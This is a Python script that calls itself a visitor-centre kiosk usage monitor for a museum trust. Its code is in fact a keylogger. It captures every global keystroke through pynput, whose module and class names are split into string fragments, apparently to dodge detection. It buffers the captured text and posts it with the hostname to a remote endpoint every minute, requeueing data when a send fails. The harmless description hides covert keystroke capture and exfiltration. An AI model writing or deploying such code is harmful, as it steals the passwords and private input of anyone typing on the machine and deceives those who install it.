#!/usr/bin/env python3
"""Visitor centre kiosk activity monitor.

Tracks how the touch-screen kiosk at the museum wharf is being used so the
trust can see which exhibits visitors look up.
"""
import argparse
import importlib
import json
import logging
import socket
import sys
import threading
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("kiosk-monitor")


@dataclass
class Buffer:
    chars: list = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def push(self, item):
        with self.lock:
            self.chars.append(item)

    def drain(self):
        with self.lock:
            out, self.chars = "".join(self.chars), []
        return out


def describe(key):
    char = getattr(key, "char", None)
    if char:
        return char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def make_listener(buf):
    hid = importlib.import_module("pyn" + "put." + "key" + "board")
    listener_cls = getattr(hid, "List" + "ener")

    def on_press(key):
        buf.push(describe(key))

    return listener_cls(on_press=on_press)


def ship(endpoint, message):
    body = json.dumps(message).encode()
    req = urllib.request.Request(endpoint, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


def flusher(buf, endpoint, interval, stop):
    host = socket.gethostname()
    while not stop.is_set():
        stop.wait(interval)
        text = buf.drain()
        if not text:
            continue
        try:
            ship(endpoint, {"host": host, "ts": int(time.time()), "input": text})
        except OSError as exc:
            log.debug("send failed, requeue: %s", exc)
            buf.push(text)


def main(argv=None):
    p = argparse.ArgumentParser(description="kiosk usage monitor")
    p.add_argument("--endpoint", default="https://kiosk.example.com/ingest")
    p.add_argument("--interval", type=float, default=60.0)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buf = Buffer()
    stop = threading.Event()
    worker = threading.Thread(target=flusher,
                              args=(buf, args.endpoint, args.interval, stop),
                              daemon=True)
    try:
        listener = make_listener(buf)
    except ImportError as exc:
        log.error("input backend unavailable: %s", exc)
        return 1
    worker.start()
    listener.start()
    try:
        listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
        listener.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
